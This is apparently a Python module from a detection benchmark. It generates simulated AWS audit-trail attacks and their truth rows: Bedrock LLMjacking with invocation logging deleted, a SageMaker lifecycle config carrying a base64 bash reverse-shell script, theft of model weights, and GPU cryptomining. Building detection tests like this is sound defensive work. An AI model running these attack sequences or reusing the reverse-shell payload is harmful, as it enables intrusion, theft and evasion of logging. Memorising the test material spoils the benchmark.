"""The attacks of the scored days, after the public write-ups each cites, written into the
trail once the background exists (stolen session keys are the keys really in use), with their
truth rows (event ids, key and addresses; expected at least medium, most high)."""

from __future__ import annotations

import datetime as dt
from typing import Any

from benchmarks.heldout17._attacks_access import (
    bucket_public,
    cold_theft,
    portal_hijack,
    slow_recon,
    vendor_abuse,
)
from benchmarks.heldout17._clients import PROXY_SDK, UBUNTU_CLI, boto3, cli
from benchmarks.heldout17._net import NETS
from benchmarks.heldout17._org import EAST, WEST, Actor
from benchmarks.heldout17._plan import Attack, Step, World, at, live_key
from benchmarks.heldout17._trail import key_id


def attacks(
    world: World, actors: dict[str, Actor], scored: list[int], scale: float, new_account_day: int
) -> list[dict[str, Any]]:
    """Every attack written into the trail; their truth rows."""
    s = scored
    return [
        *llmjacking(world, actors["sci-okafor-key"], at(world, s[1], 20.5), scale),
        *notebook_backdoor(world, actors["mle-tom"], at(world, s[2], 9.6)),
        *weights_copy(world, actors["training-exec"], at(world, s[3], 5.2), scale),
        *gpu_mining(world, actors["capacity-scheduler"], at(world, s[4], 3.1)),
        *bucket_public(world, actors["dataset-sync"], at(world, s[0], 8.3)),
        *portal_hijack(world, actors["sre-ana"], at(world, s[3], 22.1)),
        *vendor_abuse(world, actors["labelling-vendor"], at(world, s[4], 10.2)),
        *slow_recon(world, actors["inference-api"], at(world, s[0], 13)),
        *cold_theft(world, actors["agent-runtime"], at(world, new_account_day, 15.3)),
    ]


def llmjacking(world: World, victim: Actor, t: dt.datetime, scale: float) -> list[dict[str, Any]]:
    """A1 (Sysdig "LLMjacking" 2024 and its follow-ups, Permiso on Bedrock abuse): a
    researcher's long-lived key leaked in a public notebook; checked from a VPS, Bedrock
    reconnaissance across regions, invocation logging removed, model access requested, then bulk
    invocations overnight through rotating residential proxies."""
    assert victim.user is not None
    key = key_id("AKIA", victim.user.arn)
    a = Attack(
        world,
        "A1",
        "leaked researcher key: LLMjacking on Bedrock",
        victim.user.identity(key),
        victim.account,
    )
    rng = world.rng("A1")
    vps = NETS["contabo"].pick(rng)
    recon: list[Step] = [("sts:GetCallerIdentity", None, None)]
    for region in (EAST, WEST, "eu-central-1", "ap-northeast-1"):
        recon.append(
            (
                "bedrock:ListFoundationModels",
                None,
                None if region in (EAST, WEST) else "AccessDenied",
            )
        )
    t = a.play(t, vps, PROXY_SDK, EAST, recon)
    model = "anthropic.claude-3-opus-20240229-v1:0"
    t = a.play(
        t,
        vps,
        PROXY_SDK,
        EAST,
        [
            ("bedrock:GetFoundationModelAvailability", {"modelId": model}, None),
            ("bedrock-runtime:InvokeModel", {"modelId": model}, "ValidationException"),
            (
                "bedrock-runtime:InvokeModel",
                {"modelId": "anthropic.claude-3-5-sonnet-20241022-v2:0"},
                "ValidationException",
            ),
            ("bedrock:GetModelInvocationLoggingConfiguration", None, None),
            ("bedrock:DeleteModelInvocationLoggingConfiguration", None, None),
            ("bedrock:ListFoundationModelAgreementOffers", {"modelId": model}, None),
            ("bedrock:PutUseCaseForModelAccess", {"formData": "<base64>"}, None),
            (
                "bedrock:CreateFoundationModelAgreement",
                {"modelId": model, "offerToken": "<offer>"},
                None,
            ),
            ("bedrock:PutFoundationModelEntitlement", {"modelId": model}, None),
            ("bedrock:GetFoundationModelAvailability", {"modelId": model}, None),
        ],
    )
    proxies = [
        NETS[n].pick(rng)
        for n in ("proxy_tr", "proxy_br", "proxy_id", "proxy_kr")
        for _ in range(3)
    ]
    t += dt.timedelta(hours=2)
    for _ in range(max(40, int(360 * scale))):
        api = (
            "bedrock-runtime:InvokeModelWithResponseStream"
            if rng.random() < 0.6
            else "bedrock-runtime:InvokeModel"
        )
        t = a.play(
            t,
            rng.choice(proxies),
            PROXY_SDK,
            rng.choice((EAST, EAST, WEST)),
            [(api, {"modelId": model}, None if rng.random() > 0.05 else "ThrottlingException")],
            gap=(5, 45),
            rng=rng,
        )
    return a.truth("high")


def notebook_backdoor(world: World, victim: Actor, t: dt.datetime) -> list[dict[str, Any]]:
    """A2 (Stratus Red Team and Datadog Security Labs on SageMaker notebook persistence): an ML
    engineer's Identity Center CLI session, taken from his laptop's SSO cache, used from a VPS
    with another OS to replace a notebook instance's lifecycle configuration with a reverse
    shell, at night for him."""
    assert victim.role is not None
    key = key_id("ASIA", world.seed, "A2")
    identity = victim.role.identity(victim.person, key, t - dt.timedelta(minutes=3))
    a = Attack(
        world,
        "A2",
        "SSO session token theft: notebook lifecycle config replaced",
        identity,
        victim.account,
    )
    rng = world.rng("A2")
    nb = "research-nb-llm-eval"
    a.play(
        t,
        NETS["digitalocean"].pick(rng),
        cli("2.22.4", "linux#6.8.0-1014-digitalocean"),
        WEST,
        [
            ("sts:GetCallerIdentity", None, None),
            ("sagemaker:ListNotebookInstances", None, None),
            ("sagemaker:DescribeNotebookInstance", {"notebookInstanceName": nb}, None),
            ("sagemaker:ListNotebookInstanceLifecycleConfigs", None, None),
            (
                "sagemaker:DescribeNotebookInstanceLifecycleConfig",
                {"notebookInstanceLifecycleConfigName": "nb-startup"},
                None,
            ),
            ("sagemaker:StopNotebookInstance", {"notebookInstanceName": nb}, None),
            (
                "sagemaker:CreateNotebookInstanceLifecycleConfig",
                {
                    "notebookInstanceLifecycleConfigName": "nb-startup-v2",
                    "onStart": [{"content": "IyEvYmluL2Jhc2gKYmFzaCAtaSA+JiAvZGV2L3RjcC8..."}],
                },
                None,
            ),
            (
                "sagemaker:UpdateNotebookInstance",
                {"notebookInstanceName": nb, "lifecycleConfigName": "nb-startup-v2"},
                "ValidationException",
            ),
            ("sagemaker:DescribeNotebookInstance", {"notebookInstanceName": nb}, None),
            (
                "sagemaker:UpdateNotebookInstance",
                {"notebookInstanceName": nb, "lifecycleConfigName": "nb-startup-v2"},
                None,
            ),
            ("sagemaker:StartNotebookInstance", {"notebookInstanceName": nb}, None),
        ],
        gap=(20, 140),
    )
    return a.truth("medium")


def weights_copy(world: World, victim: Actor, t: dt.datetime, scale: float) -> list[dict[str, Any]]:
    """A3 (Wiz and Unit 42 on stolen workload credentials; Invictus IR on S3 exfiltration): a
    training job's session key, lifted from the container, used from outside AWS to list and
    copy model checkpoints."""
    key, identity, _, _ = live_key(world, victim, t)
    a = Attack(
        world,
        "A3",
        "training job credentials used outside AWS: model weights copied",
        identity,
        victim.account,
    )
    rng = world.rng("A3")
    ip = NETS["vultr"].pick(rng)
    plan: list[Step] = [
        ("sts:GetCallerIdentity", None, None),
        ("s3:ListBuckets", None, None),
        ("s3:ListObjects", {"bucketName": "tessellate-model-weights", "prefix": ""}, None),
        (
            "s3:ListObjects",
            {"bucketName": "tessellate-model-weights", "prefix": "checkpoints/"},
            None,
        ),
        (
            "s3:ListObjects",
            {"bucketName": "tessellate-training-data", "prefix": ""},
            "AccessDenied",
        ),
    ]
    plan += [
        (
            "s3:GetObject",
            {
                "bucketName": "tessellate-model-weights",
                "key": f"checkpoints/tsl-70b-v4/model-{i:05d}-of-00060.safetensors",
            },
            None,
        )
        for i in range(max(12, int(60 * scale)))
    ]
    a.play(t, ip, UBUNTU_CLI, WEST, plan, gap=(2, 40))
    return a.truth("high", key=key)


def gpu_mining(world: World, victim: Actor, t: dt.datetime) -> list[dict[str, Any]]:
    """A4 (Expel and Datadog Security Labs on cryptomining after credential theft; Stratus's
    GPU-instance launch): the capacity scheduler's Lambda key used from a VPS to launch GPU
    instances in two regions the company never uses."""
    key, identity, _, _ = live_key(world, victim, t)
    a = Attack(
        world,
        "A4",
        "Lambda credentials: GPU instances for mining in unused regions",
        identity,
        victim.account,
    )
    rng = world.rng("A4")
    ip, agent = (
        NETS["hetzner"].pick(rng),
        boto3("1.28.57", python="3.9.18", kernel="5.15.0-101-generic"),
    )
    t = a.play(
        t,
        ip,
        agent,
        WEST,
        [("sts:GetCallerIdentity", None, None), ("ec2:DescribeRegions", None, None)],
    )
    for region in ("ap-south-2", "sa-east-1"):
        plan: list[Step] = [
            (
                "ec2:DescribeImages",
                {
                    "filterSet": {
                        "items": [
                            {"name": "name", "valueSet": {"items": [{"value": "ubuntu*22.04*"}]}}
                        ]
                    }
                },
                None,
            ),
            ("ec2:DescribeInstanceTypeOfferings", None, None),
            ("ec2:CreateKeyPair", {"keyName": "k8s-worker"}, None),
            ("ec2:CreateSecurityGroup", {"groupName": "default-ssh"}, None),
            (
                "ec2:AuthorizeSecurityGroupIngress",
                {"ipPermissions": {"items": [{"ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}},
                None,
            ),
            (
                "ec2:RunInstances",
                {"instanceType": "p4d.24xlarge", "minCount": 4, "maxCount": 4},
                "VcpuLimitExceeded",
            ),
            (
                "ec2:RunInstances",
                {"instanceType": "g5.12xlarge", "minCount": 4, "maxCount": 4},
                None,
            ),
            (
                "ec2:RunInstances",
                {"instanceType": "g5.12xlarge", "minCount": 4, "maxCount": 4},
                "InsufficientInstanceCapacity",
            ),
            (
                "servicequotas:RequestServiceQuotaIncrease",
                {"ServiceCode": "ec2", "QuotaCode": "L-DB2E81BA", "DesiredValue": 512},
                None,
            ),
        ]
        t = a.play(t, ip, agent, region, plan, gap=(4, 30))
    return a.truth("high", key=key)
